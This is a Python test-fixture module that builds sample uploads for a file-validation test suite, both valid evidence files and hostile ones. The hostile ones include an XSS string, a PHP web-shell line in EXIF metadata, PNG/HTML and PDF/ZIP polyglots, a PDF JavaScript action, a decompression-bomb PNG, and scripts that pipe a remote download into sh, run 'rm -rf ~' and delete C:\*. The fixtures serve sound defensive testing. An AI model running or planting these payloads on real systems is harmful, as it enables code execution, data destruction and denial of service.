"""A corpus of files, built in code: good evidence and the hostile uploads that must be refused or neutralised."""

import io
import struct
import zipfile
import zlib

from PIL import Image, TiffImagePlugin

SCRIPT = b"<script>alert('xss')</script>"


def pdf(body: bytes = b"") -> bytes:
    """A small, valid one-page PDF (hand-written objects, so no library stands between the test and the bytes)."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] " + body + b">>",
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = []
    for number, obj in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + obj + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref))
    return out.getvalue()


def zip_bytes(entries: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return out.getvalue()


_DOCX_TYPES = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    b'wordprocessingml.document.main+xml"/></Types>'
)


def docx() -> bytes:
    return zip_bytes({"[Content_Types].xml": _DOCX_TYPES, "word/document.xml": b"<w:document/>"})


def docm() -> bytes:
    """A Word document with macros (what .docm holds): a vbaProject.bin and the macro-enabled content type."""
    types = _DOCX_TYPES.replace(b"document.main+xml", b"document.macroEnabled.main+xml")
    return zip_bytes(
        {
            "[Content_Types].xml": types,
            "word/document.xml": b"<w:document/>",
            "word/vbaProject.bin": b"\xd0\xcf\x11\xe0",
        }
    )


def jpeg(*, exif_script: bool = False, taken: str | None = None, gps: tuple | None = None, size=(64, 48)) -> bytes:
    image = Image.new("RGB", size, (200, 30, 30))
    exif = Image.Exif()
    if exif_script:
        exif[0x010E] = SCRIPT.decode()  # ImageDescription
        exif[0x013B] = "<?php system($_GET['c']); ?>"  # Artist
    if taken:
        exif.get_ifd(0x8769)[0x9003] = taken
    if gps:
        rational = TiffImagePlugin.IFDRational
        lat, lon = gps
        ifd = exif.get_ifd(0x8825)
        ifd[1], ifd[2] = "N", tuple(rational(v) for v in lat)
        ifd[3], ifd[4] = "E", tuple(rational(v) for v in lon)
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif)
    return out.getvalue()


def png(size=(40, 30)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (10, 120, 40)).save(out, "PNG")
    return out.getvalue()


def html_in_png() -> bytes:
    """A PNG that is also an HTML page: a browser sniffing the content would run the script behind IEND."""
    return png() + b"<html><body>" + SCRIPT + b"</body></html>"


def pdf_zip_polyglot() -> bytes:
    """A valid PDF with a ZIP archive (holding a program) appended: read as either, depending on the reader."""
    return pdf() + zip_bytes({"run.exe": b"MZ\x90\x00" + b"\x00" * 64})


def pdf_with_javascript() -> bytes:
    return pdf(b"/AA << /O << /S /J#61vaScript /JS (app.alert(1)) >> >> ")


def decompression_bomb() -> bytes:
    """A PNG of a few hundred bytes that says it is 60.000 × 60.000 pixels (3,6 billion)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    header = struct.pack(">IIBBBBB", 60_000, 60_000, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 1024))
        + chunk(b"IEND", b"")
    )


SHELL_SCRIPT = b"#!/bin/sh\ncurl http://example.invalid/x | sh\nrm -rf ~\n"
BATCH_SCRIPT = b"@echo off\r\ndel /q C:\\*\r\n"
WINDOWS_PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 120 + b"PE\x00\x00"
